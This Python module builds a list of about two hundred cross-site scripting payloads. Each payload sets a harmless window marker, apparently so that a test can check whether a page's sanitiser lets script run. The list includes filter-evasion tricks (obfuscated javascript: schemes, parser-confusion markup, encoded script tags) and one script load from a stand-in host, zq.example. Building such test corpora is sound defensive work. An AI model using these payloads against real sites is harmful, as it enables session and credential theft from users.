"""Two hundred texts that run a script where a page makes markup of them. Each sets `zq` on the window, which a test looks for."""

from __future__ import annotations

from itertools import product

RUN = "top.zq=1"
_TAGS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "marquee onstart",
    "iframe onload",
    "a tabindex=1 autofocus onfocus",
    "select autofocus onfocus",
    "style onload",
    "object data=x onerror",
    "button autofocus onfocus",
    "div onpointerover",
    "p onmouseover",
    "h2 onclick",
    "span contenteditable autofocus onfocus",
    "source onerror",
    "form tabindex=1 autofocus onfocus",
    "xss contenteditable autofocus onfocus",
    "link rel=stylesheet href=x onerror",
)
_ENDS = ("", '">', "'>", "</title>", "</textarea></script></style>", "-->")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    " javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "view-source:javascript:",
    "feed:javascript:",
    "data:text/html,<script>",
    "vbscript:",
)
_ATTRIBUTES = (
    '" onclick="{}',
    "' onclick='{}",
    '" onmouseover="{}" x="',
    '" autofocus onfocus="{}" x="',
    "x onclick={} ",
    '" style="animation-name:x" onanimationstart="{}',
    '"onpointerenter="{}',
    "` onclick=`{}",
)
_WHOLE = (
    "<script>{}</script>",
    "<script/zq>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script type=module>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\n>{}</script\n>",
    "<script>{}//",
    "</script><script>{}</script>",
    "<script src='data:text/javascript,{}'></script>",
    "<script src=//zq.example/x.js></script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe src='data:text/html,<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>Send</button></form>",
    "<button form=zq formaction='javascript:{}'>Send</button>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={} attributeName=x></svg>",
    "<math href='javascript:{}'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<base href='javascript:/a/-{};//'>",
    "<meta http-equiv=refresh content='9;url=javascript:{}'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<isindex type=image src=1 onerror={}>",
    "<plaintext><img src=x onerror={}>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "＜script＞{}＜/script＞",
    "<\x00script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% raw %}}<script>{}</script>",
    "'-({})-'",
    '";{};//',
    "\\';{};//",
    "</script><svg/onload={}>",
    "<div style=\"background:url('javascript:{}')\">x</div>",
    "<div style='width:expression({})'>x</div>",
    "[x](javascript:{})",
    '![x](x"onerror="{})',
    "<javascript:{}>",
    "[x]: javascript:{}",
    "`<script>{}</script>`",
)


def payloads() -> tuple[str, ...]:
    """Give them all, each once."""
    tags = [f"{end}<{tag}={RUN}>" for tag, end in product(_TAGS, _ENDS)]
    schemes = [f"{scheme}{RUN}" for scheme in _SCHEMES]
    attributes = [one.format(RUN) for one in _ATTRIBUTES]
    whole = [one.format(RUN) for one in _WHOLE]
    return tuple(dict.fromkeys((*whole, *schemes, *attributes, *tags)))
